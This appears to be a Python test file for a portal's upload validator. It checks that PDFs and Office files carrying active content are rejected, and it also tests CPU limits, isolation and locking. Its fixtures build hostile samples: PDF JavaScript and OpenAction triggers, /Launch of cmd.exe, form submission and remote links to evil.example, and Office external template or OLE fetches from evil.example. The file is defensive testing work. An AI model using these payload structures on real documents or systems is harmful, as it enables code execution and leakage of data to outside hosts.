"""What a file may cost: time, memory, and never a lock.

Mutants that must fail here: a types part of any size (a tree of 4.5 million elements), only the catalog looked at (each active
PDF), the PDF parsed in our own process (half a minute), and judging inside the transaction (the writer waits).
"""

from __future__ import annotations

import io
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from threading import Event

import pytest
from flask import Flask
from werkzeug.datastructures import FileStorage

from portal.accounts.models import Person
from portal.core.db import db
from portal.core.transaction import rollback, transaction
from portal.files import judging
from portal.files import services as files
from portal.files.judging import judge
from portal.files.kinds import FileKind, FileProblem, Inspected, Unfit, office, pdf
from portal.membership import services as membership
from portal.membership.enums import AttachmentKind
from portal.membership.models import Application
from tests.support import membership as given
from tests.support import uploads
from tests.support.people import actor_of, person

TREE = "<Types>" + "<a/>" * 500_000 + "</Types>"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
ACTIVE = {
    "a script when it is opened": uploads.acting_pdf(catalog=b"/OpenAction " + SCRIPT),
    "a script of the page": uploads.acting_pdf(page=b"/AA<</O " + SCRIPT + b">>"),
    "a script after a harmless step": uploads.acting_pdf(
        catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 10 0 R>>", o10=SCRIPT
    ),
    "a program behind a link": uploads.acting_pdf(
        page=b"/Annots[10 0 R]", o10=b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>"
    ),
    "a form of XFA": uploads.acting_pdf(catalog=b"/AcroForm<</Fields[]/XFA 10 0 R>>", o10=b"(<xdp/>)"),
    "a form that sends": uploads.acting_pdf(catalog=b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
    "a file inside": uploads.acting_pdf(catalog=b"/Names<</EmbeddedFiles 10 0 R>>", o10=b"<</Names[]>>"),
    "a named script": uploads.acting_pdf(catalog=b"/Names<</JavaScript 10 0 R>>", o10=b"<</Names[]>>"),
    "a program whose name stands elsewhere": uploads.acting_pdf(
        catalog=b"/OpenAction 10 0 R", o10=b"<</S 11 0 R/F(cmd.exe)>>", o11=b"/Launch"
    ),
    "a web page when it is opened": uploads.acting_pdf(
        catalog=b"/OpenAction<</S/URI/URI(http://evil.example/)>>"
    ),
    "another file on another host": uploads.acting_pdf(
        page=b"/Annots[10 0 R]",
        o10=rb"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\evil\\x.pdf)/D[0/Fit]>>>>",
    ),
    "a film": uploads.acting_pdf(
        page=b"/Annots[10 0 R]", o10=b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>"
    ),
}


def problem_of(content: bytes, name: str) -> FileProblem:
    with pytest.raises(Unfit) as unfit:
        judge(content, name)
    return unfit.value.problem


def test_a_harmless_pdf_is_taken() -> None:
    for content in (uploads.pdf(), uploads.acting_pdf(catalog=b"/OpenAction[3 0 R/Fit]", page=b"/Annots[]")):
        assert judge(content, "計画.pdf") == Inspected("計画.pdf", FileKind.PDF)


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
def test_active_content_is_found_wherever_it_hangs(content: bytes) -> None:
    assert problem_of(content, "a.pdf") is FileProblem.ACTIVE_CONTENT


RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="https://evil.example/x" '
    'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame"])
def test_an_office_file_that_fetches_parts_from_elsewhere_is_active(kind: str) -> None:
    parts = {"word/_rels/document.xml.rels": RELATIONS.format(kind=kind).encode()}
    assert problem_of(uploads.office(parts=parts), "a.docx") is FileProblem.ACTIVE_CONTENT


def test_a_web_link_in_an_office_file_is_no_harm() -> None:
    parts = {"word/_rels/document.xml.rels": RELATIONS.format(kind="hyperlink").encode()}
    assert judge(uploads.office(parts=parts), "a.docx").kind is FileKind.DOCX


def test_a_web_link_in_a_pdf_is_no_harm() -> None:
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.jp/)>>>>"
    assert judge(uploads.acting_pdf(page=b"/Annots[10 0 R]", o10=link), "a.pdf").kind is FileKind.PDF


def test_who_finds_both_turns_taken_is_asked_to_come_again(monkeypatch: pytest.MonkeyPatch) -> None:
    """The mutant waits for its turn without end: eight slow files then hold every thread of the web server."""
    monkeypatch.setattr(judging, "WAIT_SECONDS", 0.05)
    with judging._turns, judging._turns:
        assert problem_of(uploads.pdf(), "a.pdf") is FileProblem.BUSY
        assert judge(uploads.png(), "a.png").kind is FileKind.PNG
    assert judge(uploads.pdf(), "a.pdf").kind is FileKind.PDF


def test_what_the_process_apart_finds_is_told_as_it_is() -> None:
    assert problem_of(uploads.pdf(password="x"), "a.pdf") is FileProblem.ENCRYPTED
    assert problem_of(b"%PDF-1.7\nnothing", "a.pdf") is FileProblem.DAMAGED


def test_of_an_endless_list_of_types_in_a_small_package_no_tree_is_made(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    trees: list[int] = []
    real = office.fromstring

    def note(content: bytes, **how: bool) -> object:
        trees.append(len(content))
        return real(content, **how)

    monkeypatch.setattr(office, "fromstring", note)
    content = uploads.office(types=TREE)
    assert len(content) < 20_000
    assert problem_of(content, "a.docx") is FileProblem.DAMAGED
    assert trees == []
    judge(uploads.office(), "a.docx")
    assert trees


def test_a_list_of_types_that_hides_its_size_is_found() -> None:
    """The directory says one byte, the part has millions: no more is read than is said, and the sum is wrong."""
    content = bytearray(uploads.office(types=TREE))
    directory = content.index(b"PK\x01\x02")  # the first entry is the list of types
    content[directory + 24 : directory + 28] = (1).to_bytes(4, "little")
    assert problem_of(bytes(content), "a.docx") is FileProblem.DAMAGED


def test_a_tangled_page_tree_is_left_alone() -> None:
    """Walked in full it would take longer than the process has, and the answer would be another."""
    assert problem_of(uploads.tangled_pdf(), "a.pdf") is FileProblem.DAMAGED


def test_a_pdf_that_takes_too_long_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judging, "CPU_SECONDS", 1)
    content = uploads.slow_pdf()
    assert len(content) < 60_000
    assert problem_of(content, "a.pdf") is FileProblem.TOO_INTRICATE


def test_no_pdf_is_parsed_in_our_own_process(monkeypatch: pytest.MonkeyPatch) -> None:
    """Our own parsers are taken away, and PDFs are judged as before."""

    def never(content: bytes, kind: FileKind) -> None:
        raise AssertionError("parsed here")

    monkeypatch.setattr(judging, "parse", never)
    monkeypatch.setattr(pdf, "PdfReader", None)
    assert judge(uploads.pdf(), "a.pdf").kind is FileKind.PDF
    assert problem_of(b"%PDF-1.7\nnothing", "a.pdf") is FileProblem.DAMAGED
    with pytest.raises(AssertionError, match="parsed here"):
        judge(uploads.png(), "a.png")  # what is taken away is what would have been asked


def test_the_process_apart_knows_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: dict[str, str] = {}
    real = judging.subprocess.run

    def run(command: list[str], **how: object) -> object:
        seen.update(how["env"])  # type: ignore[call-overload]
        return real(command, **how)  # type: ignore[call-overload]

    monkeypatch.setenv("SECRET_KEY", "a secret")
    monkeypatch.setattr(judging.subprocess, "run", run)
    judge(uploads.pdf(), "a.pdf")
    assert "SECRET_KEY" not in seen


@pytest.fixture
def slow_judge(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Event, Event]]:
    """A judge who begins (the first event is set) and goes on when the second one is."""
    begun, go_on = Event(), Event()

    def wait(content: bytes, name: str, allowed: tuple[FileKind, ...]) -> Inspected:
        begun.set()
        assert go_on.wait(8), "somebody else could not write meanwhile"
        return judge(content, name, allowed)

    monkeypatch.setattr(files, "judge", wait)
    yield begun, go_on
    go_on.set()


@pytest.mark.database
def test_nobody_waits_for_a_slow_file(app: Flask, slow_judge: tuple[Event, Event]) -> None:
    begun, go_on = slow_judge
    given.season()
    who = person()
    application, by = given.draft(who), actor_of(who)
    number = application.id
    rollback()

    def attach() -> AttachmentKind:
        with app.app_context():
            try:
                with transaction() as session:
                    again = session.get_one(Application, number)
                    added = membership.add_attachment(
                        application=again,
                        storage=FileStorage(io.BytesIO(uploads.png()), "計画.png"),
                        kind=AttachmentKind.PLAN,
                        by=by,
                    )
                    return added.kind
            finally:
                db.session.remove()

    with ThreadPoolExecutor(1) as pool:
        added = pool.submit(attach)
        assert begun.wait(8)
        with transaction() as session:
            session.get_one(Person, who.id).name = "速 太郎"
        go_on.set()
        assert added.result(10) is AttachmentKind.PLAN
